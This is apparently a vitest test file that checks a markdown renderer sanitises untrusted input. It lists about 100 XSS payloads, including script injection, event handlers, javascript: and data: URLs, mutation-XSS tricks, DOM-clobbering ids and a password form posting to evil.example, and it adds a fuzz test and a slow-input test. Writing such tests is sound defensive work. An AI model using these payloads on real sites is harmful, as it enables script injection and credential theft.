import fc from 'fast-check';
import type { Element, Nodes, Root } from 'hast';
import rehypeRaw from 'rehype-raw';
import { unified } from 'unified';
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown.ts';

/** Returns the elements of HTML, as a browser parses them. */
async function elementsOf(html: string): Promise<Element[]> {
  const tree = await unified()
    .use(rehypeRaw)
    .run({ type: 'root', children: [{ type: 'raw', value: html } as unknown as Element] } satisfies Root);
  const found: Element[] = [];
  const walk = (node: Nodes) => {
    if (node.type === 'element') found.push(node);
    if ('children' in node) for (const child of node.children) walk(child);
  };
  walk(tree);
  return found;
}

const ALLOWED_TAGS = new Set(
  (
    'a abbr aside b blockquote br button code dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ' +
    'ins kbd li mark ol p picture pre q rp rt ruby s samp section source span strike strong sub summary sup table tbody ' +
    'td tfoot th thead tr tt ul var'
  ).split(' '),
);

/**
 * Checks that HTML cannot run scripts, load from other sites, imitate the site's controls, or use an id of the page.
 */
async function expectInert(html: string): Promise<void> {
  for (const { tagName, properties } of await elementsOf(html)) {
    expect(ALLOWED_TAGS, `<${tagName}> in ${html}`).toContain(tagName);
    if (tagName === 'button') expect(properties).toEqual({ type: 'button', dataCopyCode: '' });
    if (tagName === 'input') expect(properties).toMatchObject({ type: 'checkbox', disabled: true });
    for (const [name, value] of Object.entries(properties)) {
      const text = Array.isArray(value) ? value.join(' ') : String(value);
      expect(name, html).not.toMatch(/^on|^style$|^srcdoc$|^formAction$|^target$|^popover|^is$|^slot$|^nonce$/i);
      if (/^(href|src|cite|longDesc|srcSet|action|poster)$/.test(name)) {
        expect(text, html).not.toMatch(/^[^a-z]*(javascript|data|vbscript|file|blob):/i);
      }
      if (name === 'id' || name === 'name') expect(text, html).toMatch(/^(s-|user-content-|footnote-label$)/);
      if (name === 'className') {
        expect(text, html).toMatch(
          /^(language-[\w+#.-]+|hljs[\w-]*|code-frame|table-frame|contains-task-list|task-list-item|footnotes|sr-only|data-footnote-backref|function_|class_|inherited__|gallery|callout[\w-]*|embed[\w-]*|[\s])*$/,
        );
      }
      if (name.startsWith('data') && name !== 'dateTime') {
        expect(['dataCopyCode', 'dataFootnotes', 'dataFootnoteRef', 'dataFootnoteBackref', 'dataNote'], html).toContain(
          name,
        );
        if (name === 'dataNote') expect(text, html).toMatch(/^--note-\d+$/);
      }
    }
  }
}

describe('untrusted text', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src=x oNeRrOr = "alert(1)">',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<body onload=alert(1)>',
    '<svg onload=alert(1)><circle/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style>body{display:none}</style>',
    '<p style="position:fixed;inset:0">cover</p>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data=x></object><embed src=x><applet code=x></applet>',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type=image src=x onerror=alert(1)>',
    '<textarea autofocus onfocus=alert(1)></textarea><select><option></select>',
    '<video poster=javascript:alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="/" target="_blank" onclick="alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](<javascript:alert(1)>)',
    '[x]: javascript:alert(1)\n\n[x]',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '<javascript:alert(1)>',
    '<p id="root">a</p><p id="site-menu" popover>b</p><a name="main">c</a>',
    '<img name="body"><form id="document"><input id="cookie"></form>',
    '## <img src=x onerror=alert(1)>\n\n## root',
    '<p data-theme-toggle data-needs-app data-copy-code data-app="now" data-hydrate="now">x</p>',
    '<div class="fixed inset-0 button-primary" role="dialog">x</div>',
    '<span class="hljs-keyword sr-only">x</span>',
    '```<script>alert(1)</script>\nx\n```',
    '```js" onload="alert(1)\nx\n```',
    '```html\n<script>alert(1)</script>\n```',
    '`<script>alert(1)</script>`',
    '<template><script>alert(1)</script></template>',
    '![x](/a.webp ""><script>alert(1)</script>")\n![y](/b.webp "\' onerror=alert(1)")',
    '!["><script>alert(1)</script>](/media/pictures/0123456789abcdef-1600.webp)',
    '![x](/media/pictures/0123456789abcdef-1600.webp" onerror="alert(1))',
    '![x](vbscript:msgbox(1))',
    '![x](&#106;avascript:alert(1))',
    '[x](&#x6A;avascript&colon;alert(1))',
    '[x](java&Tab;script:alert(1))',
    '<vbscript:msgbox(1)>',
    '<data:text/html,<script>alert(1)</script>>',
    '<img srcset="javascript:alert(1) 1x, https://evil.example/x 2x">',
    '<picture><source srcset="https://evil.example/x" onerror=alert(1)><img src=x></picture>',
    '<blockquote data-callout="note"><script>alert(1)</script></blockquote>',
    '<blockquote data-callout="&quot;><script>alert(1)</script>">x</blockquote>',
    '<aside class="callout button-primary" onclick=alert(1)>x</aside>',
    '<p class="embed embed-video"><a href="javascript:alert(1)">x</a></p>',
    '<figure class="gallery fixed"><img src=x onerror=alert(1)></figure>',
    '> [!NOTE" onload="alert(1)]\n> x',
    '> [!NOTE]\n> <script>alert(1)</script>\n> <img src=x onerror=alert(1)>',
    '> [!NOTE]<script>alert(1)</script>\n> x',
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    '[^a]\n\n[^a]: [x](javascript:alert(1)) <img src=x onerror=alert(1)>',
    'https://evil.example/"onmouseover="alert(1)',
    '<https://vimeo.com/1" onclick="alert(1)>',
    '[https://vimeo.com/1](javascript:alert(1)//https://vimeo.com/1)',
    '[x](javascript://vimeo.com/%0aalert(1))',
    '```js onload=alert(1) "><script>\nx\n```',
    '~~~"><img/src=x/onerror=alert(1)>\nx\n~~~',
    '***[x](javascript:alert(1))***',
    '| [x](javascript:alert(1)) |\n|---|\n| ![x](javascript:alert(1)) |',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<x-element is="y" slot="z" onclick=alert(1)>x</x-element>',
    '<details ontoggle=alert(1) open><summary>s</summary></details>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<!--><script>alert(1)</script>-->',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '</div></div></main><script>alert(1)</script>',
    'x[^1]\n\n[^1]: <script>alert(1)</script>',
    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  ])('%s', async markdown => {
    await expectInert((await renderMarkdown(markdown)).html);
  });

  it('is safe for any combination of dangerous pieces', async () => {
    const piece = fc.constantFrom(
      '<script>',
      '</script>',
      '<img src=x onerror=',
      'alert(1)',
      '>',
      '<',
      '"',
      "'",
      '`',
      '```',
      '\n',
      '\n\n',
      ' ',
      '<a href="',
      'javascript:',
      '<svg>',
      '<math>',
      '<style>',
      '<!--',
      '-->',
      ']]>',
      '<![CDATA[',
      '[x](',
      ')',
      '&lt;',
      '<table>',
      '<td>',
      '<select>',
      '<noscript>',
      '<template>',
      '<p id=root ',
      '## ',
      '| a |\n|---|\n',
      '[^1]',
      '[^1]: ',
      '> [!NOTE]\n> ',
      '![x](/media/x.webp "',
      '")',
      '<https://vimeo.com/',
      'data-callout=note ',
      '<blockquote ',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 14 }), async pieces => {
        await expectInert((await renderMarkdown(pieces.join(''))).html);
      }),
      { numRuns: 150 },
    );
  });

  it('does not block the server: large and deep texts end', async () => {
    const began = performance.now();
    await renderMarkdown(`${'> '.repeat(200)}deep`);
    await renderMarkdown('*a '.repeat(2000));
    await renderMarkdown('['.repeat(2000));
    expect(performance.now() - began).toBeLessThan(10_000);
  });
});
